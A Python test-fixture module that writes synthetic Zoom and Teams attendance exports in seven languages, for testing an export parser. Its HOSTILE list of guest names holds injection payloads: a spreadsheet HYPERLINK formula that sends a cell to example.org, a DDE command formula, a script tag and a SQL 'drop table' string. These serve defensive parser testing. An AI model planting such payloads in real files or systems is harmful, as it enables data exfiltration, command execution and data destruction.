"""Attendance exports written from known truth, as Zoom and Teams write them in seven languages.

The words are written out here once more, so that a reader and a writer that agree on something
wrong are seen: `data/exports/` is not asked.
"""

from __future__ import annotations

import csv
import io
import random
from collections.abc import Callable, Sequence
from dataclasses import dataclass, replace
from datetime import datetime, timedelta

import openpyxl

START = datetime(2023, 3, 15, 9, 58, 0)
LENGTH = timedelta(hours=2)


@dataclass(frozen=True)
class Guest:
    """Somebody in the meeting: `joins` are pairs of moments, `email` may be blank."""

    name: str
    email: str
    joins: tuple[tuple[datetime, datetime], ...]
    role: str = "attendee"

    @property
    def seconds(self) -> int:
        """Seconds of at least one join, counted one by one."""
        return len(
            {
                (start + timedelta(seconds=n))
                for start, end in self.joins
                for n in range(int((end - start).total_seconds()))
            }
        )

    @property
    def minutes(self) -> int:
        """Those seconds in minutes, halves up."""
        return int(self.seconds / 60 + 0.5)


@dataclass(frozen=True)
class Words:
    """How Teams says it in one language."""

    summary: tuple[str, str, str, str]
    blocks: tuple[str, str, str]
    report: tuple[str, ...]
    activities: tuple[str, ...]
    older: tuple[str, ...]
    actions: tuple[str, str, str, str, str]
    roles: dict[str, str]
    units: tuple[str, str, str]
    day: str
    clock: str = "%H:%M:%S"


TEAMS = {
    "en": Words(
        ("Meeting title", "Attended participants", "Start time", "End time"),
        ("1. Summary", "2. Participants", "3. In-Meeting Activities"),
        ("Name", "First Join", "Last Leave", "In-Meeting Duration", "Email",
         "Participant ID (UPN)", "Role"),
        ("Name", "Join Time", "Leave Time", "Duration", "Email", "Role"),
        ("Full Name", "Join Time", "Leave Time", "Duration", "Email", "Role",
         "Participant ID (UPN)"),
        ("Full Name", "User Action", "Timestamp", "Joined", "Left"),
        {"organiser": "Organizer", "attendee": "Attendee"},
        ("{}h", "{}m", "{}s"), "{m}/{d}/{y:02}, ", "%I:%M:%S %p",
    ),
    "pt": Words(
        ("Título da reunião", "Participantes presentes", "Hora de início", "Hora de fim"),
        ("1. Resumo", "2. Participantes", "3. Atividades na reunião"),
        ("Nome", "Primeiro ingresso", "Última saída", "Duração na reunião", "E-mail",
         "ID do participante (UPN)", "Função"),
        ("Nome", "Hora de ingresso", "Hora de saída", "Duração", "E-mail", "Função"),
        ("Nome completo", "Hora de ingresso", "Hora de saída", "Duração", "E-mail", "Função",
         "ID do participante (UPN)"),
        ("Nome completo", "Ação do utilizador", "Carimbo de data/hora", "Entrou", "Saiu"),
        {"organiser": "Organizador", "attendee": "Participante"},
        ("{} h", "{} min", "{} s"), "{d:02}/{m:02}/{y:02}, ",
    ),
    "es": Words(
        ("Título de la reunión", "Participantes asistentes", "Hora de inicio",
         "Hora de finalización"),
        ("1. Resumen", "2. Participantes", "3. Actividades en la reunión"),
        ("Nombre", "Primera unión", "Última salida", "Duración en la reunión",
         "Correo electrónico", "Id. de participante (UPN)", "Rol"),
        ("Nombre", "Hora de unión", "Hora de salida", "Duración", "Correo electrónico", "Rol"),
        ("Nombre completo", "Hora de unión", "Hora de salida", "Duración", "Correo electrónico",
         "Rol", "Id. de participante (UPN)"),
        ("Nombre completo", "Acción del usuario", "Marca de tiempo", "Se unió", "Salió"),
        {"organiser": "Organizador", "attendee": "Asistente"},
        ("{} h", "{} min", "{} s"), "{d}/{m}/{y:02}, ",
    ),
    "ca": Words(
        ("Títol de la reunió", "Participants assistents", "Hora d’inici", "Hora de finalització"),
        ("1. Resum", "2. Participants", "3. Activitats a la reunió"),
        ("Nom", "Primera unió", "Última sortida", "Durada a la reunió", "Correu electrònic",
         "Identificador del participant (UPN)", "Funció"),
        ("Nom", "Hora d’unió", "Hora de sortida", "Durada", "Correu electrònic", "Funció"),
        ("Nom complet", "Hora d’unió", "Hora de sortida", "Durada", "Correu electrònic", "Funció",
         "Identificador del participant (UPN)"),
        ("Nom complet", "Acció de l'usuari", "Marca de temps", "S'ha unit", "Ha sortit"),
        {"organiser": "Organitzador", "attendee": "Assistent"},
        ("{} h", "{} min", "{} s"), "{d}/{m}/{y:02}, ",
    ),
    "it": Words(
        ("Titolo riunione", "Partecipanti presenti", "Ora di inizio", "Ora di fine"),
        ("1. Riepilogo", "2. Partecipanti", "3. Attività durante la riunione"),
        ("Nome", "Prima partecipazione", "Ultima uscita", "Durata in riunione", "E-mail",
         "ID partecipante (UPN)", "Ruolo"),
        ("Nome", "Ora di partecipazione", "Ora di uscita", "Durata", "E-mail", "Ruolo"),
        ("Nome completo", "Ora di partecipazione", "Ora di uscita", "Durata", "E-mail", "Ruolo",
         "ID partecipante (UPN)"),
        ("Nome completo", "Azione utente", "Timestamp", "Ha partecipato", "Uscito"),
        {"organiser": "Organizzatore", "attendee": "Partecipante"},
        ("{} h", "{} min", "{} s"), "{d:02}/{m:02}/{y:02}, ",
    ),
    "cs": Words(
        ("Název schůzky", "Zúčastnění účastníci", "Čas zahájení", "Čas ukončení"),
        ("1. Souhrn", "2. Účastníci", "3. Aktivity na schůzce"),
        ("Jméno", "První připojení", "Poslední odchod", "Doba trvání schůzky", "E-mail",
         "ID účastníka (UPN)", "Role"),
        ("Jméno", "Čas připojení", "Čas odchodu", "Doba trvání", "E-mail", "Role"),
        ("Celé jméno", "Čas připojení", "Čas odchodu", "Doba trvání", "E-mail", "Role",
         "ID účastníka (UPN)"),
        ("Celé jméno", "Akce uživatele", "Časové razítko", "Připojeno", "Odešel"),
        {"organiser": "Organizátor", "attendee": "Účastník"},
        ("{} h", "{} min", "{} s"), "{d:02}.{m:02}.{y:02} ",
    ),
    "tr": Words(
        ("Toplantı başlığı", "Katılan katılımcılar", "Başlangıç saati", "Bitiş saati"),
        ("1. Özet", "2. Katılımcılar", "3. Toplantı İçi Etkinlikler"),
        ("Ad", "İlk Katılım", "Son Ayrılma", "Toplantı Süresi", "E-posta",
         "Katılımcı Kimliği (UPN)", "Rol"),
        ("Ad", "Katılma Zamanı", "Ayrılma Zamanı", "Süre", "E-posta", "Rol"),
        ("Tam Ad", "Katılma Zamanı", "Ayrılma Zamanı", "Süre", "E-posta", "Rol",
         "Katılımcı Kimliği (UPN)"),
        ("Tam Ad", "Kullanıcı Eylemi", "Zaman Damgası", "Katıldı", "Ayrıldı"),
        {"organiser": "Düzenleyen", "attendee": "Katılımcı"},
        ("{} sa", "{} dk", "{} sn"), "{d:02}.{m:02}.{y:02} ",
    ),
}  # fmt: skip
LANGUAGES = tuple(TEAMS)

HOSTILE = (
    '=HYPERLINK("http://example.org/?"&A1,"click")',
    "<script>alert(1)</script>",
    "=cmd|'/C calc'!A0",
    '"Nina" Silva Prado',
    '"Unclosed Quote',
    "Müller, Hans-Jörg",
    "İpek Işık Şahin",
    "9. Nobody's Title",
    "{0.__class__} %s \\N",
    "Robert'); drop table attendance;--",
)


def guests_of(
    seed: int, *, people: int = 12, most_joins: int = 4, overlap: bool = True
) -> list[Guest]:
    """Return invented people: some without an address, some hostile, the first the organiser."""
    rng = random.Random(seed)
    found = []
    for number in range(people):
        hostile = number and rng.random() < 0.3
        name = rng.choice(HOSTILE) + f" {number}" if hostile else f"Person{number} Família{seed}"
        email = "" if number and rng.random() < 0.3 else f"p{number}.s{seed}@example.org"
        joins = _joins(rng, rng.randint(1, most_joins), overlap=overlap)
        found.append(Guest(name, email, joins, "attendee" if number else "organiser"))
    return found


def _joins(
    rng: random.Random, count: int, *, overlap: bool
) -> tuple[tuple[datetime, datetime], ...]:
    if overlap:
        starts = [START + timedelta(seconds=rng.randrange(6000)) for _ in range(count)]
        return tuple((start, start + timedelta(seconds=rng.randrange(1200))) for start in starts)
    marks = sorted(rng.sample(range(7200), 2 * count))
    times = [START + timedelta(seconds=mark) for mark in marks]
    return tuple(zip(times[::2], times[1::2], strict=True))


def utf16(text: str) -> bytes:
    """Return a text as Teams saves it: UTF-16, little end first, with its mark."""
    return b"\xff\xfe" + text.encode("utf-16-le")


def tabbed(rows: Sequence[Sequence[str]]) -> bytes:
    """Return rows as Teams writes them: tabs, no quoting."""
    return utf16("".join("\t".join(row) + "\r\n" for row in rows))


def commas(rows: Sequence[Sequence[str]]) -> bytes:
    """Return rows as Zoom writes them: commas, quotes where needed, UTF-8 with its mark."""
    text = io.StringIO(newline="")
    csv.writer(text).writerows(rows)
    return b"\xef\xbb\xbf" + text.getvalue().encode()


def workbook(rows: Sequence[Sequence[str]]) -> bytes:
    """Return rows as the only sheet of a workbook."""
    book, packed = openpyxl.Workbook(), io.BytesIO()
    page = book.active
    assert page is not None
    for row in rows:
        page.append(list(row))
    book.save(packed)
    return packed.getvalue()


def moment(words: Words, at: datetime) -> str:
    """Return a day and time as a language writes them."""
    clock = at.strftime(words.clock)
    return words.day.format(d=at.day, m=at.month, y=at.year % 100) + clock.removeprefix("0")


def length(words: Words, seconds: int) -> str:
    """Return a duration as a language writes it: 1h 2m 10s, parts of nothing left out."""
    parts = (seconds // 3600, seconds // 60 % 60, seconds % 60)
    said = [unit.format(n) for unit, n in zip(words.units, parts, strict=True) if n]
    return " ".join(said) or words.units[2].format(0)


def _summary(words: Words, guests: Sequence[Guest], title: str) -> list[list[str]]:
    values = (title, str(len(guests)), moment(words, START), moment(words, START + LENGTH))
    return [list(pair) for pair in zip(words.summary, values, strict=True)]


def _bounds(guest: Guest) -> tuple[datetime, datetime]:
    return min(start for start, _ in guest.joins), max(end for _, end in guest.joins)


def teams_report(guests: Sequence[Guest], language: str, title: str = "Dyeing, part 1") -> bytes:
    """Return the report in three blocks."""
    words = TEAMS[language]
    people, every = [], []
    for guest in guests:
        first, last = _bounds(guest)
        role = words.roles[guest.role]
        total = sum(int((end - start).total_seconds()) for start, end in guest.joins)
        spent = (moment(words, first), moment(words, last), length(words, total))
        people.append([guest.name, *spent, guest.email, guest.email, role])
        for start, end in guest.joins:
            stayed = length(words, int((end - start).total_seconds()))
            times = (moment(words, start), moment(words, end), stayed)
            every.append([guest.name, *times, guest.email, role])
    return tabbed(
        [[words.blocks[0]], *_summary(words, guests, title), [""], [words.blocks[1]],
         list(words.report), *people, [""], [words.blocks[2]], list(words.activities), *every]
    )  # fmt: skip


def teams_list(guests: Sequence[Guest], language: str, title: str = "Dyeing, part 1") -> bytes:
    """Return the older report, one row per join, its header on line 7."""
    words = TEAMS[language]
    rows = [
        [guest.name, moment(words, start), moment(words, end),
         length(words, int((end - start).total_seconds())), guest.email,
         words.roles[guest.role], guest.email]
        for guest in guests
        for start, end in guest.joins
    ]  # fmt: skip
    top = [["Meeting Summary"], *_summary(words, guests, title), [""]]
    return tabbed([*top, list(words.older), *rows])


def teams_actions(guests: Sequence[Guest], language: str, title: str = "") -> bytes:
    """Return the list of arrivals and departures: no title, no addresses, no roles."""
    words = TEAMS[language]
    name, action, time, joined, left = words.actions
    rows = [
        [guest.name, said, moment(words, at)]
        for guest in guests
        for start, end in guest.joins
        for said, at in ((joined, start), (left, end))
    ]
    return tabbed([[name, action, time], *rows])


def zoom_log(guests: Sequence[Guest], case: str = "older", title: str = "Dyeing, part 1") -> bytes:
    """Return Zoom's log, one row per join, with the meeting's two lines on top."""
    names = ["Name (Original Name)", "User Email", "Join Time", "Leave Time",
             "Duration (Minutes)", "Guest"]  # fmt: skip
    rows = [
        [guest.name, guest.email, _us(start), _us(end),
         str(-(-int((end - start).total_seconds()) // 60)), "Yes" if not guest.email else "No"]
        for guest in guests
        for start, end in guest.joins
    ]  # fmt: skip
    return commas([*_zoom_top(guests, title, case), _cased(names, case), *rows])


def zoom_people(
    guests: Sequence[Guest], case: str = "older", title: str = "Dyeing, part 1"
) -> bytes:
    """Return Zoom's list of unique users, with the meeting's two lines on top."""
    names = ["Name (Original Name)", "User Email", "Total Duration (Minutes)", "Guest"]
    rows = [[guest.name, guest.email, str(guest.minutes), "No"] for guest in guests]
    return commas([*_zoom_top(guests, title, case), _cased(names, case), *rows])


def _zoom_top(guests: Sequence[Guest], title: str, case: str) -> list[list[str]]:
    if not title:
        return []
    host = next((guest.email for guest in guests if guest.role == "organiser"), "")
    names = ["Meeting ID", "Topic", "Start Time", "End Time", "User Email", "Duration (Minutes)",
             "Participants"]  # fmt: skip
    values = ["912 3456 7890", title, _us(START), _us(START + LENGTH), host, "120", "9"]
    return [_cased(names, case), values]


def _cased(names: Sequence[str], case: str) -> list[str]:
    return [name.capitalize() if case == "newer" else name for name in names]


def _us(at: datetime) -> str:
    return at.strftime("%m/%d/%Y %I:%M:%S %p")


Writer = Callable[..., bytes]
EXPORTS: dict[str, Writer] = {
    **{f"teams_report {code}": (lambda g, code=code, **o: teams_report(g, code, **o))
       for code in LANGUAGES},
    **{f"teams_list {code}": (lambda g, code=code, **o: teams_list(g, code, **o))
       for code in LANGUAGES},
    **{f"teams_actions {code}": (lambda g, code=code, **o: teams_actions(g, code, **o))
       for code in LANGUAGES},
    **{f"zoom_log {case}": (lambda g, case=case, **o: zoom_log(g, case, **o))
       for case in ("older", "newer")},
    **{f"zoom_people {case}": (lambda g, case=case, **o: zoom_people(g, case, **o))
       for case in ("older", "newer")},
}  # fmt: skip


def without_addresses(guests: Sequence[Guest]) -> list[Guest]:
    """Return the people as a list that knows neither addresses nor roles shows them."""
    return [replace(guest, email="", role="attendee") for guest in guests]
